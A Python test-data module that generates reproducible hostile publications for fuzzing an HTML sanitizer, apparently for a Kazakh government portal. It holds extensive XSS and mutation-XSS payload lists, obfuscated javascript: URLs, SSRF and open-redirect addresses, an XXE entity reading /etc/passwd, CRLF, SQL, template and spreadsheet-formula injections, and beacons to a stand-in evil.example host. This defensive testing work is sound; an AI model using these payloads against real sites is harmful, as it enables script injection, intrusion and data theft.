"""Invented releases that mean harm: titles and mark-up of known attack forms, broken characters, broken mark-up.

A release is known by its number: the same number is the same release, so that one that was found can be made again.
"""

from collections.abc import Callable
from dataclasses import dataclass
from random import Random

PORTAL = "https://www.gov.kz"
EVIL = "evil.example"
RUN = "alert(document.domain)"

_WORDS = (
    "әділет", "ғимарат", "қаулы", "өңір", "ұсыныс", "үкімет", "һәм", "іс-шара", "аңдатпа", "жаңғырту", "бюджет",
    "постановление", "решение", "съезд", "ёлка", "объём", "decree", "harvest", "кеңес", "тұрғын",
)  # fmt: skip

_JAVASCRIPTS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"java&#10;script:{RUN}",
    f"java&Tab;script:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{RUN}",
    f"&#0000106avascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#1;javascript:{RUN}",
    f"java&#1;script:{RUN}",
    f"java&#x202e;script:{RUN}",
    f"java\u202escript:{RUN}",
    f"java\x00script:{RUN}",
    f"java\ud800script:{RUN}",
    f"java&#xD800;script:{RUN}",
    f"java&#xFFFE;script:{RUN}",
    f"javascript://{EVIL}/%0A{RUN}",
    f"vbscript:msgbox({RUN})",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"jar:https://{EVIL}/x!/y",
    "blob:https://www.gov.kz/1",
    "filesystem:https://www.gov.kz/1",
    "file:///etc/passwd",
)
_ADDRESSES = (
    *_JAVASCRIPTS,
    f"https://{EVIL}/a",
    f"//{EVIL}/a",
    f"\\\\{EVIL}\\a",
    f"/\\{EVIL}/a",
    f"https:{EVIL}/a",
    f"https:\\\\{EVIL}/a",
    f"https://www.gov.kz@{EVIL}/a",
    f"https://www.gov.kz\\@{EVIL}/a",
    f"https://www.gov.kz.{EVIL}/a",
    f"https://www.gov.kz:pw@{EVIL}:8443/a",
    f"http://www.gov.kz%2F@{EVIL}/a",
    "http://192.168.0.1/admin?reboot=1",
    "http://[::1]:631/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[bad",
    "https://",
    "https://www.gov.kz:99999/a",
    "https://қазақстан.қаз/сурет 1.jpg",
    "/uploads/2031/5/14/сурет 1.jpg",
    "../../uploads/plan.pdf",
    "?x=1&y=2",
    "#_ftn1",
    f'https://{EVIL}/"><script>{RUN}</script>',
    f"https://{EVIL}/?a=1&amp;quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
    "https://www.gov.kz/a\r\nLocation: https://evil.example/",
    "https://www.gov.kz/100%",
    "https://www.gov.kz/]]>",
    "mailto:a@gov.kz?subject=x%0ABcc:b@evil.example",
    "tel:+77172000000",
    "",
)
_UNQUOTED = tuple(address for address in _ADDRESSES if not set("'\"") & set(address))
_EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus autofocus", "onbegin", "ontoggle open", "onscroll",
    "onanimationstart", "onpointerrawupdate", "onwheel", "ONERROR", "on\x00error",
    "oncontentvisibilityautostatechange",
)  # fmt: skip
_STYLES = (
    "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:red",
    f"background:url(https://{EVIL}/s.png)",
    f"background:url('javascript:{RUN}')",
    f"width:expression({RUN})",
    f"wi\\64th:exp/**/ression({RUN})",
    f"-moz-binding:url(https://{EVIL}/x.xml#a)",
    f"behavior:url(//{EVIL}/x.htc)",
    f"list-style-image:image-set(url(//{EVIL}/i) 1x)",
    f"content:'';cursor:url(//{EVIL}/c),auto",
)

# Each keeps its words for the reader, whatever else it tries. {w}: words, {a}: an address, {e}: an event, {s}: a
# style.
_SOUND = (
    "<p>{w}</p>",
    '<p {e}="alert(1)">{w}</p>',
    "<b {e}=alert(1)>{w}</b> ",
    '<p style="{s}">{w}</p>',
    "<div style='{s}'><p>{w}</p></div>",
    '<a href="{a}">{w}</a> ',
    "<p><a href='{a}' ping='//evil.example/p' target=_top {e}='alert(1)'>{w}</a></p>",
    '<a href="{a}"><img src="{a}" alt="">{w}</a> ',
    '<a xlink:href="{a}" href="{a}">{w}</a> ',
    '<p>{w}<img src="{a}" {e}="alert(1)"></p>',
    '<p>{w}<img src="{a}" srcset="//evil.example/2x 2x" lowsrc="{a}" dynsrc="{a}" usemap="#m"></p>',
    '<p>{w}<img width="1" height="1" src="https://evil.example/beacon?id=1"></p>',
    '<p>{w}<img width="1px" style="display:none" src="http://10.0.0.1/beacon"></p>',
    '<picture><source srcset="//evil.example/p.webp"><img src="{a}"></picture><p>{w}</p>',
    "<p>{w}</p><script>alert(1)</script>",
    "<p>{w}</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<p>{w}</p><script>//<![CDATA[\nalert(1)//]]></script>",
    "<p>{w}</p><scr<script></script>ipt>alert(1)</script>",
    "<p>{w}</p><<script>alert(1)//<</script>",
    "<p>{w}</p><script/xss src=//evil.example></script>",
    "<p>{w}</p><style>@import '//evil.example/x.css';body{{visibility:hidden}}</style>",
    '<link rel=stylesheet href="{a}"><link rel=preload as=image href=//evil.example/l><p>{w}</p>',
    '<link rel=dns-prefetch href="//evil.example"><p>{w}</p>',
    '<base href="//evil.example/"><p>{w}</p>',
    '<meta http-equiv="refresh" content="0;url={a}"><p>{w}</p>',
    "<meta http-equiv=set-cookie content=a=b><p>{w}</p>",
    '<iframe src="{a}"></iframe><p>{w}</p>',
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe><p>{w}</p>",
    '<p>{w}</p><embed src="{a}" type="image/svg+xml">',
    '<object data="{a}" type="text/html"><p>{w}</p></object>',
    '<object><param name=movie value="{a}"><p>{w}</p></object>',
    "<applet code=x archive=//evil.example/x.jar><p>{w}</p></applet>",
    '<video src="{a}" poster="//evil.example/p" autoplay {e}=alert(1)></video><p>{w}</p>',
    "<video><source onerror=alert(1)></video><p>{w}</p>",
    '<audio src="{a}" autoplay {e}="alert(1)"></audio><p>{w}</p>',
    '<p>{w}</p><input type="image" src="{a}" {e}="alert(1)">',
    '<form action="{a}"><p>{w}</p><button formaction="{a}">{w}</button></form>',
    '<form id=x></form><button form=x formaction="{a}">{w}</button>',
    "<select {e}=alert(1)><option>{w}</option><option>{w}</option></select>",
    '<isindex action="{a}" prompt=x><p>{w}</p>',
    '<table background="//evil.example/t"><tr><td background="{a}" style="{s}">{w}</td><td>{w}</td></tr></table>',
    '<body {e}="alert(1)" background="//evil.example/b"><p>{w}</p>',
    '<details open {e}="alert(1)"><summary>{w}</summary>{w}</details>',
    '<marquee onstart="alert(1)" behavior=alternate>{w}</marquee>',
    "<svg {e}=alert(1)><text>{w}</text></svg> ",
    '<svg><a xlink:href="{a}"><text>{w}</text></a></svg> ',
    '<svg><animate attributeName=href values="{a}"/><text>{w}</text></svg> ',
    '<svg><set attributeName=onmouseover to=alert(1)></set><text>{w}</text></svg> ',
    '<svg><image href="//evil.example/i"/><use href="{a}"/></svg><p>{w}</p>',
    "<svg><script>alert(1)</script></svg><p>{w}</p>",
    "<svg><foreignObject><iframe src=//evil.example></iframe><p>{w}</p></foreignObject></svg>",
    '<math href="{a}"><mtext>{w}</mtext></math> ',
    '<math><maction actiontype="statusline#//evil.example" xlink:href="{a}">{w}</maction></math> ',
    "<template><img src=x onerror=alert(1)></template><p>{w}</p>",
    "<noscript><img src=//evil.example/n></noscript><p>{w}</p>",
    "<noembed><img src=//evil.example/n></noembed><p>{w}</p>",
    "<!-- <script>alert(1)</script> --><p>{w}</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>{w}</p>",
    "<?xml-stylesheet href='javascript:alert(1)'?><p>{w}</p>",
    "<![CDATA[<img src=x onerror=alert(1)>]]><p>{w}</p>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><p>&e; {w}</p>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; {w}</p>",
    "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; {w}</p>",
    "<p>]]> &#93;&#93;&#62; {w} ]]&gt;</p>",
    "<p>&#0; &#1; &#x1F; &#xD800; &#xFFFE; &#x110000; &#128; &amp;#1; {w}</p>",
    "<p>&#x202e;&#x2066; {w} &#x202c;</p>",
    '<bdo dir=rtl>{w}</bdo> <p dir="rtl">{w}</p>',
    '<p id="location" name="cookie" class="admin">{w}</p>',
    '<a name="body"></a><form name=document><img name=getElementById></form><p>{w}</p>',
    '<q cite="{a}">{w}</q> <blockquote cite="{a}">{w}</blockquote>',
    '<ol start=3 reversed><li value="7" {e}=alert(1)>{w}</li></ol>',
    '<p title="</p><script>alert(1)</script>">{w}</p>',
    "<p title='{a}' lang='\"><script>alert(1)</script>'>{w}</p>",
    '<custom-tag {e}="alert(1)" style="{s}" is="x-y">{w}</custom-tag> ',
    '<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">{w}</xss:script> ',
    '<image src="{a}" {e}="alert(1)"><p>{w}</p>',
    "<portal src=//evil.example></portal><p>{w}</p>",
    '<p>👩‍🌾🇰🇿🏴󠁧󠁢󠁥󠁮󠁧󠁿❤️ {w}</p>',
)  # fmt: skip

# What stands behind one of these may be swallowed, as every browser would swallow it.
_BROKEN = (
    "<img src=`x` onerror=`alert(1)`",
    '<img src="x" onerror="alert(1)',
    "<a href='javascript:alert(1)' <b>x",
    "<<<<img/src=x/onerror=alert(1)//",
    "<!-- <img src=x onerror=alert(1)> --!> <img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<style><a title='</style><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
    "<math><mi><xmp><math><img src=x onerror=alert(1)></xmp>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml>",
    "<svg><desc><svg><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=alert(1)>'>",
    "<table><td><svg><style><a title='</style><img src=x onerror=alert(1)>'></table>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<p><svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]>",
    "<plaintext><script>alert(1)</script>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<img alt='<x' title='/><img src=x onerror=alert(1)>'>",
    "<a href=https://evil.example/><img src=//evil.example/1></b></a></a></p></div>",
    "</p></div></body></html><script>alert(1)</script>",
    "]]></content></entry><entry><title>x</title></entry>",
    '","content_html":"<script>alert(1)</script>","x":"',
    "<ifr<iframe>ame src=javascript:alert(1)>",
    "<em<embed>bed src=javascript:alert(1)>",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\ud800script>alert(1)</script>",
    "<scr\u202eipt>alert(1)</script>",
    "&lt\x00;script&gt;alert(1)",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "＜script＞alert(1)＜/script＞",
)

_TITLES = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=//evil.example/t onerror=alert(1)>",
    "<b>",
    "</b>",
    "a < b > c & d",
    "&lt;b&gt;",
    "&amp;lt;script&amp;gt;",
    "&#1;&#x202e;",
    "]]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--",
    "<?xml version='1.0'?>",
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    '"><svg onload=alert(1)>',
    "\r\nSet-Cookie: a=b",
    "\u2028\u2029\x85",
    "\u202egpj.exe\u2066",
    "\u200e\u200f\u061c",
    "{{7*7}} ${7*7} <%= 7 %> {% x %} %s %(x)s {0}",
    "=cmd|'/c calc'!A1",
    "'; DROP TABLE editions; --",
    '\\u003cscript\\u003e \\" \\',
    "👩‍🌾🇰🇿🏴󠁧󠁢󠁥󠁮󠁧󠁿❤️",
    "z̸̢̛̗͓̈́a̴̧͈̔l̶͕͑g̷̱͝o̴̫͋",
    "\x00\x01\x0b\x1b[31m\x7f\x9f",
    "\ud83d \udc00 \ud800\udc00",
    "\ufffe\uffff\ufdd0\U0001fffe",
    "[x](javascript:alert(1))",
)

_BITS = (
    "<", ">", "/", "=", '"', "'", "`", "&", ";", "#", "!", "--", "]]>", " ", "\n", "\x00", "svg", "style", "script",
    "img", "src", "onerror", "alert(1)", "math", "a", "href", "javascript:", "table", "title", "ә",
)  # fmt: skip

_RANGES = (
    (0x00, 0x20), (0x20, 0x7F), (0x7F, 0xA0), (0x400, 0x530), (0x590, 0x700), (0x2000, 0x2070), (0x3000, 0x3100),
    (0xD800, 0xE000), (0xE000, 0xF900), (0xFDD0, 0xFDF0), (0xFFF0, 0x10000), (0x1F300, 0x1FA00), (0xE0000, 0xE01F0),
    (0x0, 0x110000),
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Hostile:
    """What somebody who means harm might publish."""

    title: str
    title_words: tuple[str, ...]
    """What a reader of the title must see, in this order."""
    text: str
    html: str
    words: tuple[str, ...]
    """What a reader of the mark-up must see, in this order."""
    file_name: str
    address: str


def hostile(number: int) -> Hostile:
    """The hostile release of that number."""
    random = Random(number)
    title, title_words = _joined(random, _title_piece, most=4)
    body, words = _joined(random, _body_piece, most=7)
    if random.random() < 0.5:
        body += "".join(random.choice(_TAILS)(random) for _ in range(random.randint(1, 3)))
    return Hostile(
        title=title,
        title_words=title_words,
        text=f"{_noise(random)}\n\n{random.choice(_TITLES)}\n{body[:200]}",
        html=body,
        words=words,
        file_name=f"{random.choice(_TITLES)}{_noise(random)}.pdf",
        address=random.choice(_ADDRESSES),
    )


def _joined(
    random: Random, piece: Callable[[Random, "_Marks"], str], *, most: int
) -> tuple[str, tuple[str, ...]]:
    marks = _Marks(random)
    made = "".join(piece(random, marks) for _ in range(random.randint(1, most)))
    return made, tuple(marks.given)


class _Marks:
    """Gives words, each another one, and remembers them."""

    def __init__(self, random: Random) -> None:
        self.given: list[str] = []
        self._random = random

    def __format__(self, _spec: str) -> str:
        self.given.append(f"{self._random.choice(_WORDS)}{len(self.given)}")
        return self.given[-1]


def _title_piece(random: Random, marks: "_Marks") -> str:
    return f"{random.choice(_TITLES)} {marks} {_noise(random) if random.random() < 0.3 else ''} "


def _body_piece(random: Random, marks: "_Marks | str") -> str:
    return _sound(random, marks) + (_escaped(_noise(random)) if random.random() < 0.3 else "")


def _sound(random: Random, words: "_Marks | str") -> str:
    form = random.choice(_SOUND)
    return form.format(w=words, a=_Address(random), e=random.choice(_EVENTS), s=random.choice(_STYLES))


class _Address:
    """Another address at each place; none that would end the quotes it stands in."""

    def __init__(self, random: Random) -> None:
        self._random = random

    def __format__(self, _spec: str) -> str:
        return self._random.choice(_UNQUOTED)


def _noise(random: Random) -> str:
    """Characters of all planes, half a surrogate among them."""
    made = []
    for _ in range(random.randint(1, 12)):
        low, high = random.choice(_RANGES)
        made.append(chr(random.randrange(low, high)))
    return "".join(made)


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;")


def _broken(random: Random) -> str:
    return random.choice(_BROKEN)


def _quoted_address(random: Random) -> str:
    quote = random.choice("\"' `")
    return f"<a href={quote}{random.choice(_ADDRESSES)}{quote}>x</a>"


def _cut(random: Random) -> str:
    whole = random.choice((_sound(random, _WORDS[0]), random.choice(_BROKEN)))
    return whole[: random.randrange(len(whole))]


def _spliced(random: Random) -> str:
    """A known form with something in the middle of it."""
    whole = random.choice((_sound(random, _WORDS[0]), random.choice(_BROKEN)))
    place = random.randrange(len(whole))
    return whole[:place] + _noise(random) + whole[place + random.randint(0, 2) :]


def _deep(random: Random) -> str:
    tag = random.choice(
        ("div", "b", "span", "table><tr><td", "ul><li", "svg", "math", "blockquote", "a href=/x")
    )
    return f"<{tag}>" * random.randint(20, 300)


def _huge(random: Random) -> str:
    return f'<a title="{random.choice("ұ<>&;x ") * random.randint(1_000, 20_000)}" onclick="alert(1)">x</a>'


def _soup(random: Random) -> str:
    return "".join(random.choice(_BITS) for _ in range(random.randint(5, 60)))


_TAILS: tuple[Callable[[Random], str], ...] = (
    *(_broken,) * 6,
    *(_quoted_address,) * 2,
    *(_cut,) * 2,
    *(_spliced,) * 3,
    *(_soup,) * 2,
    _noise,
    _deep,
    _huge,
)
"""How often which is taken."""
